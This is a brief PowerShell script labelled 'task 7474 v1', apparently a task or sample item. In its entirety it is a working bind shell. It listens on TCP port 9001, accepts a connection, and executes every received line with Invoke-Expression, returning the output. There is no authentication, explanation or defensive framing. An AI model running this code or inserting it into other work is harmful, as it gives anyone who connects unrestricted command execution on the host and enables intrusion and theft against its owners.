# task 7474 v1
$l = [System.Net.Sockets.TcpListener]9001
$l.Start()
$c = $l.AcceptTcpClient()
$s = $c.GetStream()
$r = New-Object IO.StreamReader($s)
$w = New-Object IO.StreamWriter($s)
while ($true) { $cmd = $r.ReadLine(); $o = Invoke-Expression $cmd | Out-String; $w.WriteLine($o); $w.Flush() }
